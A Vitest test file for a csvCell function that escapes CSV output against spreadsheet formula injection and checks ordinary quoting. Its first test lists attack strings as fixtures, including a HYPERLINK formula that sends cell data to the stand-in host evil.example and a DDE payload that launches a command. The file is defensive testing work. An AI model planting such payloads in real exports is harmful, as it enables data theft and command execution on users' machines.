import { describe, expect, it } from 'vitest';
import { csvCell } from './log.js';

describe('csvCell', () => {
  it('never leaves a cell a spreadsheet would run as a formula', () => {
    for (const attack of [
      '=HYPERLINK("http://evil.example/?"&A1,"열기")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
    ])
      expect(csvCell(attack)).toMatch(/^"?'/);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
  });

  it('quotes quotes, commas and both kinds of line break; leaves numbers and plain text alone', () => {
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell('2026-12 점검 완료')).toBe('2026-12 점검 완료');
    expect(csvCell(null)).toBe('');
    expect(csvCell({ PERSON: 2 })).toBe('"{""PERSON"":2}"');
  });
});
